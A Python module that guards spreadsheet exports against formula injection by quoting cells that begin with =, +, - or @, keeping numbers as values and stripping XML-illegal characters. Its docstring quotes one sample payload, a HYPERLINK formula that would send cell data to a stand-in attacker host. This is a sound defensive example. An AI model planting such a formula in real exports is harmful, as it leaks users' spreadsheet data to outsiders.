"""Spreadsheet formula injection: user text must never become a live formula.

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-``
or ``@`` (and, after trimming, tab or carriage return) as a formula, so a name like
``=HYPERLINK("http://evil.example/?"&A1)`` would run when an export is opened.
Following OWASP's CSV-injection advice and ASVS 1.2.10 such text is neutralised:

- CSV: prefixed with a single quote ``'``; the quote stays visible, which is the price
  of a format with no cell types (spreadsheets read ``'=1+2`` as text).
- XLSX: written as a string cell (never a formula) with the *quote prefix* style, so the
  user sees exactly what was typed, and editing the cell keeps it text.

Numbers (``int``/``float``/``Decimal``) are values, not text: ``-12.5`` stays a number.
"""

from __future__ import annotations

import re
from datetime import date, datetime
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
EXCEL_TEXT_LIMIT = 32_767  # characters in one cell
# Control characters that XML 1.0 cannot carry (openpyxl refuses them).
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

CellValue = str | int | float | Decimal | date | datetime | bool | None


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet would evaluate (or that starts with a control char)."""
    return text.startswith(FORMULA_TRIGGERS)


def safe_cell(text: str) -> str:
    """CSV: text as it must be written so that no spreadsheet evaluates it."""
    return "'" + text if is_formula_like(text) else text


def csv_value(value: CellValue) -> str:
    """Any cell value as CSV text: numbers as numbers, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime):
        return value.astimezone().strftime("%Y-%m-%d %H:%M") if value.tzinfo else str(value)
    if isinstance(value, date):
        return value.isoformat()
    return safe_cell(str(value).replace("\0", ""))  # NUL trips up many CSV readers


def xlsx_text(text: str) -> str:
    """Text an XLSX cell can hold: no XML-illegal characters, within Excel's cell limit."""
    if not text.isprintable():
        text = XML_ILLEGAL.sub("", text)
    return text[:EXCEL_TEXT_LIMIT]
